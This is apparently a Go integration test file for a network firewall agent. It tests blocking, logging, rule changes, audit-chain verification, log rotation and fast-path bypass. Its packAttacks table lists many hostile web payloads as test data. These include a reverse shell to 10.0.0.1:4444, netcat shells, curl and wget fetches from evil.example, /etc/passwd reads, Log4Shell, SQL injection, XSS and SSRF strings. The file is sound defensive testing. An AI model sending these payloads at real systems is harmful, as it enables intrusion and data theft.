package agent_test

import (
	"bufio"
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	crand "crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/deepwall/deepwall/ctl/agent"
	"github.com/deepwall/deepwall/ctl/api"
	"github.com/deepwall/deepwall/ctl/audit"
	"github.com/deepwall/deepwall/ctl/eve"
	"github.com/deepwall/deepwall/ctl/internal/demo"
	"github.com/deepwall/deepwall/internal/agenttest"
	"github.com/deepwall/deepwall/internal/testnet"
	"github.com/deepwall/deepwall/rules"
)

// packAttacks holds one request per blocking rule of the default pack,
// aimed at that rule's field alone.
var packAttacks = []struct {
	id  uint32
	req string
}{
	{913100, get("/", "User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)")},
	{920270, get("/index%00.html")},
	{921110, get("/r?next=%0d%0aSet-Cookie:%20admin=1")},
	{930100, get("/static/..%2f..%2fapp.conf")},
	{930101, post("/upload", "file=../../../var/www/x")},
	{930110, get("/", "Cookie: lang=en; template=../../../../app/config/secrets.yml")},
	{930120, get("/download?file=/etc/passwd")},
	{930121, post("/api", "path=/etc/shadow")},
	{930125, get("/", "Cookie: theme=/proc/self/environ")},
	{930126, get("/download?file=backup.sql.gz")},
	{930130, get("/.git/config")},
	{930131, get("/.claude/settings.json")},
	{930160, get("/download?file=..%2f..%2f..%2fetc%2fpasswd")}, // detect: traversal
	{931100, get("/index.php?lang=http://203.0.113.7/shell.txt")},
	{931110, get("/index.php?option=com_x&mosConfig_absolute_path=http://evil.example/shell.txt")},
	{931120, get("/index.php?page=http://evil.example/shell.txt?")},
	{932100, get("/ping?host=127.0.0.1;whoami")},
	{932105, get("/ping?host=x|ls%20-la")},
	{932106, post("/run", "cmd=x;cat /var/log/app.log")},
	{932110, get("/x?c=bash%20-i%20%3E%26%20/dev/tcp/10.0.0.1/4444%200%3E%261")},
	{932111, post("/x", "payload=nc 10.0.0.1 4444 -e /bin/sh")},
	{932120, get("/run?cmd=for%20/f%20%22delims=%22%20%25i%20in%20(%27type%20c:%5Cconfig.txt%27)%20do%20echo%20%25i")},
	{932125, get("/", "X-Forwarded-For: 127.0.0.1 && curl -s http://evil.example/x.sh")},
	{932126, post("/run", "code=time%20ifconfig")},
	{932127, post("/run", "args=x%3Bwget%20http://evil.example/a.sh")},
	{932130, get("/x?c=ls${IFS}-la")},
	{932131, get("/", "Cookie: lang=/???/b??/w?o??i")},
	{932140, get("/cgi-bin/status", "Referer: () { :; }; echo vulnerable")},
	{932150, get("/x?c=w'h'o'am'i")},
	{932155, get("/", "Cookie: tz=uname -a")},
	{932160, get("/diag?tool=/usr/bin/id")},
	{932190, get("/download?file=..%2f..%2f..%2fetc%2fpasswd")}, // detect: cmdi (passwd in command position); other rules block it too
	{933100, get("/index.php?page=php://filter/convert.base64-encode/resource=index.php")},
	{933101, post("/upload", "content=<?php system($_GET['c']); ?>")},
	{933110, request("POST", "/upload", "--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"shell.php\"\r\nContent-Type: image/gif\r\n\r\nGIF89a\r\n--x--\r\n", "Content-Type: multipart/form-data; boundary=x")},
	{933130, get("/eval?code=echo%20$_SERVER%5B%27HTTP_HOST%27%5D")},
	{933150, get("/eval?code=phpinfo()")},
	{933151, post("/eval", "code=base64_decode('ZXZhbA==')")},
	{933161, get("/x/system('id')")},
	{933170, get("/", `Cookie: cart=O:8:"stdClass":1:{s:4:"test";s:3:"abc";}`)},
	{933210, get("/x?f=(system)(%27id%27)")},
	{934100, get("/api/users?sort=process.mainModule.require(%27child_process%27)")},
	{934101, get("/api/render/require(%27child_process%27).exec(%27id%27)")},
	{934110, get("/fetch?url=http://169.254.169.254/latest/meta-data/")},
	{934111, post("/fetch", "url=http://169.254.169.254/latest")},
	{934112, get("/", "X-Forwarded-Host: 169.254.169.254")},
	{934120, get("/fetch?url=gopher://evil:70/x")},
	{934121, get("/fetch?url=http://localhost:8080/admin")},
	{934131, get("/api/settings?constructor%5Bprototype%5D%5BisAdmin%5D=true")},
	{934150, get("/greet?name=__import__(%27os%27).popen(%27id%27).read()")},
	{934170, get("/login?user%5B%24ne%5D=1")},                // detect: nosqli
	{934175, get("/people?filter=*)(uid%3D*))(%7C(uid%3D*")}, // detect: ldapi
	{934180, get("/greet?name={{7*7}}")},
	{934185, get("/greet?name=%7B%7B7*7%7D%7D")}, // detect: ssti
	{941100, get("/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E")},
	{941101, post("/comment", "comment=<svg onload=alert(1)>")},
	{941102, get("/", `Referer: https://shop.example/"><svg onload=alert(1)>`)},
	{941103, get("/%3Cscript%3Ealert(1)%3C/script%3E")},
	{941110, get("/search?q=%3Cscript%3Ex%3C/script%3E")},
	{941111, post("/comment", "text=<script src=//evil/x.js></script>")},
	{941112, get("/", "Referer: javascript:alert(document.cookie)")},
	{941120, get("/search?q=%3Ca%20href%3Dx%20onmouseover%3Dfoo()%3E")},
	{941121, post("/comment", "text=<img src=x onerror=steal()>")},
	{941130, get("/go?next=javascript:alert(1)")},
	{941140, get("/go?u=data:text/html;base64,PHNjcmlwdD4=")},
	{941160, get("/search?q=%3Ciframe%20src%3D//evil%3E")},
	{941180, get("/search?q=document.cookie")},
	{942100, get("/item?id=1%27%20OR%201=1--")},
	{942101, post("/login", "user=admin' OR '1'='1")},
	{942102, get("/", "Cookie: sid=1' OR '1'='1")},
	{942103, get("/", "X-Forwarded-For: 1' or '1'='1")},
	{942104, get("/item/1%27%20or%20%271%27%3D%271")},
	{942120, get("/item?id=1%20xor%201")},
	{942130, get("/item?id=5%20or%201=1")},
	{942131, get("/user?name=x%27%20or%20%27a%27=%27a")},
	{942132, post("/user", "name=x' or 'a'='a")},
	{942140, get("/q?s=select%20*%20from%20information_schema.tables")},
	{942141, post("/q", "s=select load_file(0x2f6574632f706173737764)")},
	{942150, get("/item?sort=rand()")},
	{942160, get("/item?id=1%20and%20sleep(5)")},
	{942161, post("/item", "id=1 and sleep(5)--")},
	{942170, get("/item?id=1;%20drop%20table%20users")},
	{942190, get("/item?id=1%20union%20all%20select%20null")},
	{942191, post("/item", "id=1 union select null,null")},
	{942200, get("/login?user=admin%27--")},
	{942210, get("/item?id=extractvalue(1,concat(0x7e,version()))")},
	{942500, get("/item?id=1%20/*!50000union*/%20select%201")},
	{942551, get("/search?q=1%20and%20sleep(5)")},
	{943100, get("/?lang=en%20set-cookie:%20JSESSIONID=attacker")},
	{943120, get("/account?PHPSESSID=attacker0123456789")},
	{944100, get("/x?cls=java.lang.Runtime")},
	{944101, post("/x", "cls=java.lang.ProcessBuilder")},
	{944110, post("/x", "data=rO0ABXNyABFqYXZhLnV0aWw")},
	{944111, get("/", "X-Data: rO0ABXNyABFqYXZhLnV0aWw")},
	{944130, post("/x", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x")},
	{944131, get("/x?class.module.classLoader.URLs%5B0%5D=0")},
	{944132, get("/x?type=com.sun.rowset.JdbcRowSetImpl")},
	{944140, request("MOVE", "/uploads/cmd.txt", "", "Destination: /uploads/cmd.jsp")},
	{944150, get("/", "X-Api-Version: ${jndi:ldap://evil/a}")},
	{944151, get("/${jndi:ldap://evil/a}")},
	{944152, post("/x", "v=${jndi:ldap://evil/a}")},
	{944153, post("/x", "msg=${web:rootDir}")},
	{944200, get("/", "X-Struts: %{(#_memberAccess['allowStaticMethodAccess']=true)}")},
	{944201, get("/index.action?redirect:${%23context['xwork.MethodAccessor.denyMethodExecution']=false}")},
	{944202, get("/x?name=${facesContext.externalContext.sessionMap}")},
	{944250, get("/x?x=Class.forName(param.c).getMethod(param.m).invoke(null)")},
	{944300, get("/x?data=amF2YS5sYW5nLlJ1bnRpbWU=")},
}

// TestPrivilegedAgentTraffic: benign HTTP passes byte-exact, every attack
// of the default pack is blocked with a reset and logged with its
// signature, a card number in a response is logged, and status, flows and
// metrics report it.
func TestPrivilegedAgentTraffic(t *testing.T) { forModes(t, testAgentTraffic) }

func testAgentTraffic(t *testing.T, m agentMode) {
	topo := m.topology(t)
	server := testServer(t, topo)
	dir := t.TempDir()
	sockPath := filepath.Join(dir, "events.sock")
	socketEvents := listenEvents(t, sockPath)
	a := startAgent(t, topo, dir, "--event-socket", sockPath)
	t.Cleanup(func() { a.stop(t) })

	// Every blocking rule of the pack has an attack here, but those only
	// HTTP/2 or gRPC can trigger, which the tests named have.
	h2Only := map[uint32]string{
		920900: "dpi TestHTTP2RapidResetDefaultPack",
		941105: "dpi TestGRPCDefaultPack",
		942105: "dpi TestGRPCDefaultPack, TestPrivilegedAgentGRPC",
	}
	pack := mustDefaultPack(t)
	var want []uint32
	for _, r := range pack.Enabled() {
		if _, ok := h2Only[r.ID]; !ok && r.Action.String() == "block" {
			want = append(want, r.ID)
		}
	}
	var have []uint32
	for _, at := range packAttacks {
		have = append(have, at.id)
	}
	slices.Sort(want)
	if !slices.Equal(want, have) {
		t.Fatalf("attack table covers %v, the pack blocks with %v", have, want)
	}

	t.Run("benign byte-exact", func(t *testing.T) {
		c := testnet.HTTPClient(topo.Client, true)
		for i, n := range []int{0, 1, 1460, 1461, 65536, 1 << 20, 4<<20 + 3} {
			resp, err := c.Get(fmt.Sprintf("http://%s/bytes?n=%d&seed=%d", server, n, i))
			if err != nil {
				t.Fatalf("GET %d bytes: %v", n, err)
			}
			body, err := io.ReadAll(resp.Body)
			resp.Body.Close()
			if err != nil || resp.StatusCode != 200 || sum(body) != sum(pseudoBytes(n, uint64(i))) {
				t.Fatalf("GET %d bytes: status %d, %d bytes, err %v: not the bytes sent", n, resp.StatusCode, len(body), err)
			}
		}
		up := pseudoBytes(300<<10, 99)
		resp, err := c.Post(fmt.Sprintf("http://%s/echo", server), "application/octet-stream", bytes.NewReader(up))
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if sum(body) != sum(up) {
			t.Fatalf("echo of %d bytes came back as %d different bytes", len(up), len(body))
		}
	})

	t.Run("attacks blocked and logged", func(t *testing.T) {
		ports := map[uint32]uint16{}
		for _, at := range packAttacks {
			res := rawRequest(t, topo, server, at.req)
			switch {
			case res.hang:
				t.Errorf("rule %d: the client hangs instead of getting a reset", at.id)
			case res.status != 0:
				t.Errorf("rule %d: passed with status %d: %q", at.id, res.status, at.req)
			case !res.reset:
				t.Errorf("rule %d: connection ended without a reset: %v", at.id, res.err)
			}
			ports[at.id] = res.port
		}
		evs := a.waitEvents(t, "an alert for every attack", func(evs []eve.Event) bool {
			for _, p := range ports {
				if len(blockedIDs(evs, p)) == 0 {
					return false
				}
			}
			return true
		})
		for _, at := range packAttacks {
			if ids := blockedIDs(evs, ports[at.id]); !slices.Contains(ids, at.id) {
				t.Errorf("rule %d: blocked alerts of its flow are %v", at.id, ids)
			}
		}
	})

	t.Run("card number in a response", func(t *testing.T) {
		res := rawRequest(t, topo, server, get("/account"))
		if res.status != 200 || !bytes.Contains(res.body, []byte(demo.Card)) {
			t.Fatalf("DLP alert rules must not block: %+v", res)
		}
		a.waitCardAlert(t, res.port)
	})

	t.Run("status flows metrics", func(t *testing.T) {
		st := a.status(t)
		if st.Counters.Inspected == 0 || st.Counters.Blocks < uint64(len(packAttacks)) || st.Counters.Alerts == 0 ||
			st.Counters.Resets == 0 || st.RuleSet.Version != 1 || st.RuleSet.Rules != len(pack.Rules) || len(st.Ports) != 2 {
			t.Errorf("status %+v", st)
		}
		if st.Events.Dropped != 0 || st.Events.Written == 0 {
			t.Errorf("events %+v", st.Events)
		}
		code, out, errs := a.cli(t, "flows", "--verdict", "drop", "-o", "json")
		fl := agent.MustJSON[api.FlowList](t, []byte(out))
		if code != 0 || fl.Total == 0 || fl.Flows[0].Verdict != "drop" {
			t.Errorf("flows: %d %s %s", code, out, errs)
		}
		metrics := a.metrics(t, topo.FW)
		for _, m := range []string{`deepwall_packets_total{path="user"}`, `deepwall_bytes_total{path="user"}`,
			`deepwall_verdicts_total{verdict="block"}`, `deepwall_rule_hits_total{rule_id="942190"}`,
			`deepwall_drops_total{reason="acl"}`, `deepwall_worker_queue_depth{worker="1"}`,
			`deepwall_inspection_latency_seconds_bucket{le="+Inf"}`, `deepwall_events_total{state="dropped"} 0`,
			`deepwall_rules_version 1`, `deepwall_rule_changes_total{result="ok"} 1`,
			`deepwall_workload_events_total{event="block",workload="_pair"}`,
			`deepwall_output_events_total{output="socket:` + sockPath + `",state="sent"}`} {
			if !strings.Contains(metrics, m) {
				t.Errorf("metrics lack %s", m)
			}
		}
	})

	t.Run("event socket", func(t *testing.T) {
		// The agent's alerts reach the unix socket listener too, with
		// the flow's Community ID (the file's events are checked against
		// the EVE schema when the agent stops: agenttest).
		var blocked int
		for deadline := time.Now().Add(10 * time.Second); blocked < len(packAttacks) && time.Now().Before(deadline); {
			select {
			case ev := <-socketEvents:
				if ev.Alert != nil && ev.Alert.Action == "blocked" && ev.CommunityID != "" {
					blocked++
				}
			case <-time.After(100 * time.Millisecond):
			}
		}
		if blocked < len(packAttacks) {
			t.Errorf("event socket got %d blocked alerts, want at least %d", blocked, len(packAttacks))
		}
	})
}

// listenEvents listens on a unix stream socket at path, as a SIEM
// shipper would for --event-socket, and returns the events it reads.
func listenEvents(tb testing.TB, path string) <-chan eve.Event {
	tb.Helper()
	ln, err := net.Listen("unix", path)
	if err != nil {
		tb.Fatal(err)
	}
	tb.Cleanup(func() { ln.Close() })
	out := make(chan eve.Event, 1<<14)
	go testnet.Serve(ln, func(c net.Conn) {
		sc := bufio.NewScanner(c)
		sc.Buffer(nil, 1<<20)
		for sc.Scan() {
			var ev eve.Event
			if json.Unmarshal(sc.Bytes(), &ev) == nil {
				select {
				case out <- ev:
				default:
				}
			}
		}
	})
	return out
}

// TestPrivilegedAgentRuleChanges: a rule added to the running agent blocks
// a request that passed a moment before, without a restart and without
// breaking an open keep-alive connection; an invalid set changes nothing;
// rules survive a restart; the audit chain verifies and catches an edit.
func TestPrivilegedAgentRuleChanges(t *testing.T) { forModes(t, testAgentRuleChanges) }

func testAgentRuleChanges(t *testing.T, m agentMode) {
	topo := m.topology(t)
	server := testServer(t, topo)
	dir := t.TempDir()
	base := agent.WriteFile(t, dir, "base.yaml", agent.TestRules)
	a := startAgent(t, topo, dir, "--rules", base)

	// One keep-alive connection, used before and after the change.
	conn := testnet.Dial(t, topo.Client, "tcp", server)
	br := bufio.NewReader(conn)
	keepAlive := func(path string) (int, string) {
		t.Helper()
		conn.SetDeadline(time.Now().Add(5 * time.Second))
		fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: 198.18.0.2\r\nUser-Agent: keepalive\r\n\r\n", path)
		resp, err := http.ReadResponse(br, nil)
		if err != nil {
			return 0, err.Error()
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		return resp.StatusCode, string(body)
	}
	if code, body := keepAlive("/before"); code != 200 || body != "ok /before" {
		t.Fatalf("keep-alive before: %d %q", code, body)
	}
	if res := rawRequest(t, topo, server, get("/forbidden-zone")); res.status != 200 {
		t.Fatalf("/forbidden-zone before the rule: %+v", res)
	}

	add := agent.WriteFile(t, dir, "add.yaml", "rules:\n  - {id: 777, name: forbidden zone, action: block, category: custom, match: {field: http.path, regex: '^/forbidden'}}\n")
	code, out, errs := a.cli(t, "rules", "add", add, "-m", "close the zone")
	if code != 0 || !strings.Contains(out, "version 1 -> 2") {
		t.Fatalf("rules add: %d %s %s", code, out, errs)
	}
	res := rawRequest(t, topo, server, get("/forbidden-zone"))
	if !res.reset {
		t.Fatalf("/forbidden-zone after the rule: %+v", res)
	}
	a.waitEvents(t, "rule 777's alert", func(evs []eve.Event) bool { return slices.Contains(blockedIDs(evs, res.port), 777) })
	for i := range 3 {
		p := fmt.Sprintf("/after-%d", i)
		if code, body := keepAlive(p); code != 200 || body != "ok "+p {
			t.Fatalf("keep-alive after the change: %d %q", code, body)
		}
	}

	// A bad regex: the CLI says where and why, nothing changes; the API
	// says the same to a client that skips the CLI.
	bad := agent.WriteFile(t, dir, "bad.yaml", "rules:\n  - {id: 1, action: block, match: {field: http.uri, regex: 'a(b'}}\n")
	code, _, errs = a.cli(t, "rules", "apply", bad)
	if code != 1 || !strings.Contains(errs, bad+":2:62: rule 1: regex: hyperscan: Missing close parenthesis") ||
		!strings.Contains(errs, "rules not changed") {
		t.Errorf("bad apply: %d %s", code, errs)
	}
	var ce *api.CallError
	err := api.NewClient(a.Socket).Do(context.Background(), http.MethodPut, "/v1/rules", nil,
		api.RulesRequest{Main: "bad.yaml", Files: map[string]string{"bad.yaml": "rules:\n  - {id: 1, action: block, match: {field: http.uri, regex: 'a(b'}}\n"}}, nil)
	if !asCallError(err, &ce) || ce.Status != 422 || len(ce.Body.Details) != 1 || ce.Body.Details[0].Line != 2 {
		t.Errorf("bad apply over the API: %v", err)
	}
	if st := a.status(t); st.RuleSet.Version != 2 || st.RuleSet.Rules != 4 {
		t.Errorf("after the bad apply: version %d, %d rules", st.RuleSet.Version, st.RuleSet.Rules)
	}
	if code, body := keepAlive("/still"); code != 200 || body != "ok /still" {
		t.Errorf("keep-alive after the bad apply: %d %q", code, body)
	}

	// Restart without --rules: the stored set comes back.
	conn.Close()
	a.stop(t)
	a = startAgent(t, topo, dir)
	t.Cleanup(func() { a.stop(t) })
	if st := a.status(t); st.RuleSet.Version != 2 || st.RuleSet.Rules != 4 {
		t.Errorf("after restart: version %d, %d rules", st.RuleSet.Version, st.RuleSet.Rules)
	}
	if res := rawRequest(t, topo, server, get("/forbidden-again")); !res.reset {
		t.Errorf("rule 777 lost in the restart: %+v", res)
	}
	code, out, _ = a.cli(t, "rules", "show", "777")
	if code != 0 || !strings.Contains(out, "regex: ^/forbidden") {
		t.Errorf("rules show 777: %d %s", code, out)
	}

	// An ACL rule goes to XDP: the SYN to port 81 is dropped there, where
	// before the server's kernel answered it with a reset.
	dial81 := func() error {
		return topo.Client.Do(func() error {
			c, err := net.DialTimeout("tcp", netip.AddrPortFrom(testnet.ServerIP, 81).String(), time.Second)
			if err == nil {
				c.Close()
			}
			return err
		})
	}
	if err := dial81(); !errors.Is(err, syscall.ECONNREFUSED) {
		t.Fatalf("port 81 before the ACL rule: %v", err)
	}
	acl := agent.WriteFile(t, dir, "acl.yaml", "rules:\n  - {id: 20, name: no 81, action: block, proto: tcp, dst_port: 81}\n")
	if code, out, errs := a.cli(t, "rules", "add", acl); code != 0 {
		t.Fatalf("add acl: %s %s", out, errs)
	}
	var ne net.Error
	if err := dial81(); !errors.As(err, &ne) || !ne.Timeout() {
		t.Errorf("port 81 after the ACL rule: %v, want a timeout", err)
	}
	if st := a.status(t); st.Counters.Drops["acl"] == 0 || st.RuleSet.ACL != 2 {
		t.Errorf("ACL drops %d, ACL rules %d", st.Counters.Drops["acl"], st.RuleSet.ACL)
	}

	// The audit log: start (--rules), add, refused apply, add; verify, then
	// edit. Each entry names the caller's process: the add came from a
	// deepwall process of its own, the refused apply from this one.
	entries := agent.ReadAudit(t, a.Audit)
	if len(entries) != 4 || entries[1].Op != "add" || entries[1].UID != os.Getuid() || entries[1].PID == 0 ||
		entries[1].PID == a.PID() || entries[1].PID == os.Getpid() || entries[2].PID != os.Getpid() ||
		entries[1].FromVersion != 1 || entries[1].ToVersion != 2 || entries[2].OK {
		t.Errorf("audit entries %+v", entries)
	}
	// The chain holds the API's access decisions too (op access).
	all := agent.ReadAuditAll(t, a.Audit)
	code, out, errs = agenttest.CLI(t, "audit", "verify", "--file", a.Audit, "--state", a.State)
	if code != 0 || !strings.Contains(out, fmt.Sprintf("%d entries, chain intact, last entry matches", len(all))) {
		t.Errorf("audit verify: %d %s %s", code, out, errs)
	}
	data, _ := os.ReadFile(a.Audit)
	edited := bytes.Replace(data, []byte(`"op":"add"`), []byte(`"op":"nop"`), 1)
	if err := os.WriteFile(a.Audit+".edited", edited, 0o600); err != nil {
		t.Fatal(err)
	}
	// Verify breaks at the line after the edited one (its prev no longer
	// matches).
	addLine := slices.IndexFunc(all, func(e audit.Entry) bool { return e.Op == "add" }) + 1
	code, _, errs = agenttest.CLI(t, "audit", "verify", "--file", a.Audit+".edited", "--state", "")
	if code != 1 || !strings.Contains(errs, fmt.Sprintf("chain broken at line %d", addLine+1)) {
		t.Errorf("edited audit log (add on line %d): %d %s", addLine, code, errs)
	}
}

func asCallError(err error, into **api.CallError) bool {
	ce, ok := err.(*api.CallError)
	*into = ce
	return ok
}

// TestPrivilegedAgentLogRotation: under load the verdict log rotates and
// no event is lost; SIGHUP reopens the file.
func TestPrivilegedAgentLogRotation(t *testing.T) { forModes(t, testAgentLogRotation) }

func testAgentLogRotation(t *testing.T, m agentMode) {
	topo := m.topology(t)
	server := testServer(t, topo)
	dir := t.TempDir()
	rulesFile := agent.WriteFile(t, dir, "rules.yaml", "rules:\n  - {id: 600, name: load marker, action: alert, match: {field: http.uri, regex: 'marker-\\d+'}}\n")
	a := startAgent(t, topo, dir, "--rules", rulesFile, "--log-max-size", "16384", "--log-keep", "1000")
	t.Cleanup(func() { a.stop(t) })

	const n = 600
	c := testnet.HTTPClient(topo.Client, true)
	errc := make(chan error, 4)
	for w := range 4 {
		go func() {
			for i := w; i < n; i += 4 {
				resp, err := c.Get(fmt.Sprintf("http://%s/marker-%d", server, i))
				if err != nil {
					errc <- err
					return
				}
				io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
			}
			errc <- nil
		}()
	}
	for range 4 {
		if err := <-errc; err != nil {
			t.Fatal(err)
		}
	}
	evs := a.waitEvents(t, "every marker alert", func(evs []eve.Event) bool { return countMarkers(evs) == n })
	if got := countMarkers(evs); got != n {
		t.Fatalf("%d of %d alerts in the log", got, n)
	}
	st := a.status(t)
	if st.Events.Rotations == 0 || st.Events.Dropped != 0 || st.Events.Errors != 0 {
		t.Errorf("events %+v", st.Events)
	}

	// logrotate's way: move the file, SIGHUP, and new events go to a new file.
	moved := a.Log + ".moved"
	if err := os.Rename(a.Log, moved); err != nil {
		t.Fatal(err)
	}
	if err := a.Signal(syscall.SIGHUP); err != nil {
		t.Fatal(err)
	}
	time.Sleep(500 * time.Millisecond)
	if res := rawRequest(t, topo, server, get("/marker-99999")); res.status != 200 {
		t.Fatalf("after SIGHUP: %+v", res)
	}
	deadline := time.Now().Add(10 * time.Second)
	for {
		data, _ := os.ReadFile(a.Log)
		if bytes.Contains(data, []byte("marker-99999")) {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("no event in the reopened log")
		}
		time.Sleep(100 * time.Millisecond)
	}
}

func countMarkers(evs []eve.Event) int {
	seen := map[string]bool{}
	for _, ev := range evs {
		if ev.Alert != nil && ev.Alert.SignatureID == 600 && ev.HTTP != nil {
			seen[ev.HTTP.URL] = true
		}
	}
	return len(seen)
}

// TestPrivilegedAgentBadInput: each start-up problem is one line and a
// non-zero exit, and leaves no XDP program or pin behind.
func TestPrivilegedAgentBadInput(t *testing.T) { forModes(t, testAgentBadInput) }

func testAgentBadInput(t *testing.T, m agentMode) {
	topo := m.topology(t)
	for _, name := range []string{"nxa", "nxb"} {
		if out, err := topo.FW.Run(execCommand("ip", "link", "add", name, "type", "bridge")); err != nil {
			t.Fatalf("add bridge: %v %s", err, out)
		}
		if out, err := topo.FW.Run(execCommand("ip", "link", "set", name, "up")); err != nil {
			t.Fatalf("bridge up: %v %s", err, out)
		}
	}
	dir := t.TempDir()
	notDir := agent.WriteFile(t, dir, "regular-file", "")
	badRules := agent.WriteFile(t, dir, "bad-rules.yaml", "rules:\n  - {id: 1, action: block, match: {field: http.uri, regex: 'a(b'}}\n")
	badStore := filepath.Join(dir, "bad-state")
	agent.WriteFile(t, badStore, "rules.db", "this is not a bbolt file")

	// A live agent holds inner and outer for the "second agent" case.
	live := startAgent(t, topo, filepath.Join(dir, "live"))
	t.Cleanup(func() { live.stop(t) })

	base := func(d string) []string {
		return append([]string{"run", "--socket", filepath.Join(d, "s.sock"), "--state", filepath.Join(d, "state"),
			"--log", filepath.Join(d, "eve.json"), "--log-level", "error"}, m.args...)
	}
	rulesBefore := m.rules(t, topo)
	tests := []struct {
		name string
		args []string
		want string
	}{
		{"missing interface", []string{"--inner", "nope0", "--outer", testnet.OuterIf}, "interface nope0: no such interface"},
		// The tc path attaches to any device; the XDP path needs native XDP.
		{"no XDP support", []string{"--inner", "nxa", "--outer", "nxb", "--datapath", "xdp"}, "interface nxa does not support native XDP"},
		{"second agent", []string{"--inner", testnet.InnerIf, "--outer", testnet.OuterIf}, "port inner: in use by another deepwall agent (pid "},
		{"unwritable log dir", []string{"--inner", "nxa", "--outer", "nxb", "--log", filepath.Join(notDir, "eve.json")}, "not a directory"},
		{"corrupt store", []string{"--inner", "nxa", "--outer", "nxb", "--state", badStore}, "not a bbolt database"},
		{"bad rules file", []string{"--inner", "nxa", "--outer", "nxb", "--rules", badRules}, "rule set invalid (1 problem); nothing started"},
	}
	for i, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if tc.name == "no XDP support" && m.name != "xdp" {
				t.Skip("NFQUEUE needs no XDP")
			}
			d := filepath.Join(dir, fmt.Sprint(i))
			args := append(base(d), tc.args...)
			cmd := execCommand(agenttest.Binary(t), args...)
			var stderr bytes.Buffer
			cmd.Stderr = &stderr
			err := topo.FW.Do(func() error { return cmd.Run() })
			if err == nil {
				t.Fatalf("started")
			}
			lines := strings.Split(strings.TrimSpace(stderr.String()), "\n")
			last := lines[len(lines)-1]
			t.Logf("%s", last)
			if tc.name == "bad rules file" {
				// The problem itself comes first, as rules validate prints it.
				if len(lines) != 2 || !strings.Contains(lines[0], "bad-rules.yaml:2:62: rule 1: regex") {
					t.Errorf("problem lines %q", lines)
				}
				lines = lines[1:]
			}
			if len(lines) != 1 || !strings.HasPrefix(last, "deepwall: ") || !strings.Contains(last, tc.want) {
				t.Errorf("stderr %q, want one line with %q", stderr.String(), tc.want)
			}
			testnet.CheckNoPrograms(t, topo.FW, "nxa", "nxb")
			if pins, _ := filepath.Glob("/sys/fs/bpf/deepwall/*-nxa"); len(pins) != 0 {
				t.Errorf("pins left: %v", pins)
			}
			if _, err := os.Stat(filepath.Join(d, "s.sock")); err == nil {
				t.Errorf("socket left")
			}
			if after := m.rules(t, topo); after != rulesBefore {
				t.Errorf("iptables rules changed:\n%s\n---\n%s", rulesBefore, after)
			}
		})
	}
	// The live agent is untouched by all this.
	if st := live.status(t); st.RuleSet.Version != 1 {
		t.Errorf("live agent: %+v", st)
	}
}

func execCommand(name string, args ...string) *exec.Cmd { return exec.Command(name, args...) }

func mustDefaultPack(tb testing.TB) *rules.Set {
	tb.Helper()
	set, err := rules.DefaultPack()
	if err != nil {
		tb.Fatal(err)
	}
	return set
}

// TestPrivilegedAgentBypass: a TLS flow goes to the kernel fast path after
// its hellos; a rule change sends it back to inspection without breaking
// it; when it ends, its flow event carries the kernel's counters.
func TestPrivilegedAgentBypass(t *testing.T) { forModes(t, testAgentBypass) }

func testAgentBypass(t *testing.T, m agentMode) {
	topo := m.topology(t)
	a := startAgent(t, topo, t.TempDir())
	stopped := false
	t.Cleanup(func() {
		if !stopped {
			a.stop(t)
		}
	})
	tc := dialSizeServer(t, topo, sizeServer(t, topo))
	clientPort, fetch := tc.port, func(n int) {
		t.Helper()
		if err := tc.fetch(n, 10*time.Second); err != nil {
			t.Fatal(err)
		}
	}
	fetch(1000)
	bypassed := func() (api.FlowRow, bool) {
		fl := a.Flows(t, api.FlowFilter{Port: clientPort, Limit: 10})
		for _, r := range fl.Flows {
			if r.Bypassed && r.Verdict == "pass" && r.App == "tls" {
				return r, true
			}
		}
		return api.FlowRow{}, false
	}
	deadline := time.Now().Add(5 * time.Second)
	for {
		if _, ok := bypassed(); ok {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the TLS flow never reached the fast path: %+v", a.Flows(t, api.FlowFilter{Port: clientPort, Limit: 10}))
		}
		fetch(100)
		time.Sleep(100 * time.Millisecond)
	}
	fetch(1 << 20)

	if r, _ := bypassed(); r.BytesToClient < 1<<20 {
		t.Errorf("fast-path bytes not in flows: %+v", r)
	}
	if st := a.status(t); st.Counters.FastPathAllowed == 0 {
		t.Errorf("no fast-path packets in status: %+v", st.Counters)
	}

	// A new layer-7 rule revokes the verdict at once (the dataplane
	// forgets its in-flight finals too); the connection goes on.
	add := agent.WriteFile(t, a.Dir, "tls-rule.yaml", "rules:\n  - {id: 4431, action: block, match: {field: tls.sni, regex: 'evil\\.example'}}\n")
	code, out, errs := a.cli(t, "rules", "add", add, "-o", "json")
	res := agent.MustJSON[api.ChangeResult](t, []byte(out))
	if code != 0 || res.Revoked < 1 {
		t.Fatalf("rules add: %d %s %s", code, out, errs)
	}

	fetch(200 << 10)

	// Ending: the agent reports the kernel's flows at shutdown.
	tc.Close()
	a.stop(t)
	stopped = true
	var flowEv *eve.Event
	for _, ev := range a.events(t) {
		if ev.Flow != nil && (ev.SrcPort == clientPort || ev.DestPort == clientPort) {
			flowEv = &ev
		}
	}
	if flowEv == nil {
		t.Fatalf("no flow event for the TLS flow")
	}
	if f := flowEv.Flow; f.BytesToClient < 1<<20 || f.PktsToServer == 0 || !f.Bypassed || f.Action != "pass" {
		t.Errorf("flow event counters %+v", *f)
	}
}

// Flows lists the agent's flows through the API.
func (a *agentProc) Flows(tb testing.TB, f api.FlowFilter) api.FlowList {
	tb.Helper()
	var fl api.FlowList
	if err := api.NewClient(a.Socket).Do(context.Background(), http.MethodGet, "/v1/flows", f.Query(), nil, &fl); err != nil {
		tb.Fatal(err)
	}
	return fl
}

